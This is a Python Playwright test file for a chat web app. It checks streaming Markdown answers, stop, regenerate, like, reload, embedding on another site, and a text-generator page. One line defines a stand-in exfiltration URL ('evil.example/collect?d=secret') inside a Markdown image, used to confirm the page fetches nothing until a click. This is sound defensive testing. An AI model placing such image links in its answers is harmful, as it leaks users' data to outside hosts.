"""A stranger opens a published chat app's public link and chats: the answer streams in
token by token as rendered Markdown, a long one is stopped, an answer is regenerated and
liked, and after a reload everything is still there. Then the chat is embedded on another
site with the bubble script."""

import http.server
import re
import threading
import time

import pytest
from playwright.sync_api import expect

from tests.chat.conftest import make_app
from tests.e2e.conftest import shot
from tests.providers.conftest import fake_openai, openai_ready  # noqa: F401 - fixtures

pytestmark = pytest.mark.browser

QUESTION = "How do the **planets** of an orrery turn?"
ANSWER = "You said: How do the planets of an orrery turn?"  # as the page shows it
LONG = " ".join(f"planet{i}" for i in range(80))
EXFIL = "https://evil.example/collect?d=secret"


@pytest.fixture
def published(openai_ready, fake_openai, live_server_url, transactional_db):  # noqa: F811
    """A chat app of `team`, against the fake OpenAI, made before the browser starts
    (Playwright's event loop in this thread forbids database calls once it runs)."""
    fake_openai.chunk_delay = 0.05
    return make_app(
        openai_ready,
        "chat",
        opening_statement="Hello! I know about orreries.",
        suggested_questions=["What is an orrery?"],
    )


def watch_grow(locator, expected: str, timeout: float = 20) -> list[str]:
    """The locator's text, each time it changed, until it reads `expected`."""
    seen: list[str] = []
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        text = locator.inner_text().strip()
        if text and (not seen or seen[-1] != text):
            seen.append(text)
        if text == expected:
            return seen
        time.sleep(0.015)
    raise AssertionError(f"never read {expected!r}; saw {seen[-3:]}")


def test_chat_on_the_public_page(published, browser_page, live_server_url):
    page, base = browser_page, live_server_url
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    outside: list[str] = []
    page.on("request", lambda r: outside.append(r.url) if "evil.example" in r.url else None)
    page.goto(f"{base}/chat/{published.site_code}")
    expect(page.get_by_test_id("opening-statement")).to_have_text("Hello! I know about orreries.")
    expect(page.get_by_role("button", name="What is an orrery?")).to_be_visible()

    # She asks; the answer grows token by token, as Markdown.
    page.get_by_label("Your message").fill(QUESTION)
    page.get_by_label("Your message").press("Enter")
    answer = page.get_by_test_id("answer").last
    seen = watch_grow(answer, ANSWER)
    assert len(seen) > 2 and all(ANSWER.startswith(part) for part in seen), seen
    expect(answer.locator("strong")).to_have_text("planets")
    expect(page.get_by_label("Your message")).to_have_value("")
    expect(page).to_have_url(re.compile(rf"/chat/{published.site_code}/conversations/[0-9a-f-]+$"))
    expect(page.get_by_test_id("conversations")).to_contain_text("How do the **planets**")

    # An answer with an image shows a button, and nothing is fetched until it is clicked.
    page.get_by_label("Your message").fill(f"look ![chart]({EXFIL})")
    page.get_by_role("button", name="Send").click()
    image = page.get_by_role("button", name="Load image from evil.example: chart")
    expect(image).to_be_visible()
    assert outside == []

    # A long answer is stopped half-way.
    page.get_by_label("Your message").fill(LONG)
    page.get_by_role("button", name="Send").click()
    last = page.get_by_test_id("turn").last
    expect(last.get_by_test_id("answer")).to_contain_text("planet3")
    last.get_by_role("button", name="Stop generating").click()
    expect(last.get_by_test_id("turn-status")).to_have_text("Stopped.")
    assert "planet79" not in last.get_by_test_id("answer").inner_text()

    # Regenerate the stopped answer: it is replaced in place and runs to the end.
    page.get_by_test_id("turn").last.get_by_role("button", name="Regenerate").click()
    expect(page.get_by_test_id("turn").last.get_by_test_id("answer")).to_contain_text(
        "planet79", timeout=20_000
    )
    expect(page.get_by_test_id("turn")).to_have_count(3)

    # Like it, and copy it.
    last = page.get_by_test_id("turn").last
    last.get_by_role("button", name="Like").click()
    expect(last.get_by_role("button", name="Like")).to_have_attribute("aria-pressed", "true")
    last.get_by_role("button", name="Copy").click()
    expect(last.get_by_role("button", name="Copied")).to_be_visible()
    shot(page, "webapp-chat")

    # After a reload all of it is still there.
    page.reload()
    expect(page.get_by_test_id("turn")).to_have_count(3)
    expect(page.get_by_test_id("answer").first).to_have_text(ANSWER)
    expect(page.get_by_test_id("turn").last.get_by_role("button", name="Like")).to_have_attribute(
        "aria-pressed", "true"
    )

    # Rename the conversation, then delete it (after confirming).
    page.get_by_label(re.compile("Options for")).first.click()
    page.get_by_label("New name").fill("Orrery questions")
    page.get_by_role("button", name="Rename").click()
    expect(page.get_by_test_id("conversations")).to_contain_text("Orrery questions")
    page.on("dialog", lambda dialog: dialog.accept())
    page.get_by_label("Options for Orrery questions").click()
    page.get_by_role("button", name="Delete").click()
    expect(page).to_have_url(f"{base}/chat/{published.site_code}")
    expect(page.get_by_test_id("conversations")).to_contain_text("No conversations yet.")

    # On a phone.
    page.set_viewport_size({"width": 390, "height": 844})
    page.get_by_role("button", name="What is an orrery?").click()
    expect(page.get_by_test_id("answer").last).to_have_text("You said: What is an orrery?")
    shot(page, "webapp-chat-phone")
    assert not errors, errors


class HostSite:
    """Another website (another origin) that embeds the chat with the bubble script."""

    def __init__(self, chat_url: str, orrery: str):
        body = (
            "<!doctype html><title>Shop</title><h1>A shop</h1>"
            f'<script src="{orrery}/static/js/embed.js" data-orrery-chat="{chat_url}" '
            'data-orrery-label="Ask the shop" defer></script>'
            f'<iframe id="framed-login" src="{orrery}/login/" title="login"></iframe>'
        ).encode()

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 - the stdlib's name
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.2", 0), Handler)
        self.url = f"http://127.0.0.2:{self.server.server_address[1]}/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()


def test_the_chat_embedded_on_another_site(published, browser_page, live_server_url):
    page, base = browser_page, live_server_url
    host = HostSite(f"{base}/chat/{published.site_code}", base)
    try:
        page.goto(host.url)
        page.get_by_role("button", name="Ask the shop").click()
        frame = page.frame_locator("#orrery-chat-frame")
        expect(frame.get_by_test_id("opening-statement")).to_be_visible()
        frame.get_by_label("Your message").fill("Do you ship to Oslo?")
        frame.get_by_label("Your message").press("Enter")
        # The framed page opens its own socket first: on a busy CI machine that takes a while.
        expect(frame.get_by_test_id("answer").last).to_have_text(
            "You said: Do you ship to Oslo?", timeout=20_000
        )
        # The rest of Orrery refuses to be framed: the sign-in page stays blank there.
        login = page.frame_locator("#framed-login")
        expect(login.get_by_label("Password")).to_have_count(0)
        shot(page, "webapp-embedded")
    finally:
        host.close()


@pytest.fixture
def writer(openai_ready, fake_openai, live_server_url, transactional_db):  # noqa: F811
    fake_openai.chunk_delay = 0.08
    form = [
        {"text-input": {"label": "Topic", "variable": "topic", "required": True}},
        {"select": {"label": "Tone", "variable": "tone", "options": ["calm", "bold"]}},
    ]
    return make_app(
        openai_ready, "completion", user_input_form=form, pre_prompt="A {{tone}} poem on {{topic}}"
    )


def test_the_text_generator_page(writer, browser_page, live_server_url):
    page, base = browser_page, live_server_url
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto(f"{base}/completion/{writer.site_code}")
    expect(page.get_by_text("Nothing saved yet.")).to_be_visible()
    page.get_by_label("Topic").fill("the *moons* of Jupiter")
    page.get_by_label("Tone").select_option("bold")
    page.get_by_role("button", name="Generate").click()
    result = page.get_by_test_id("result").get_by_test_id("answer")
    expected = "You said: A bold poem on the moons of Jupiter"
    seen = watch_grow(result, expected)
    assert len(seen) > 2, seen
    expect(result.locator("em")).to_have_text("moons")
    page.get_by_test_id("result").get_by_role("button", name="Save").click()
    saved = page.get_by_test_id("saved")
    expect(saved).to_contain_text(expected)
    expect(saved.locator(".count")).to_have_text("1")

    # A file that is not what the batch needs is explained, not run.
    page.get_by_label("CSV file").set_input_files(
        files=[{"name": "rows.csv", "mimeType": "text/csv", "buffer": b"name\nx\n"}]
    )
    page.get_by_role("button", name="Run batch").click()
    expect(page.get_by_test_id("batch-error")).to_have_text(
        "The first row must name the input variables: topic, tone."
    )
    shot(page, "webapp-completion")
    assert not errors, errors
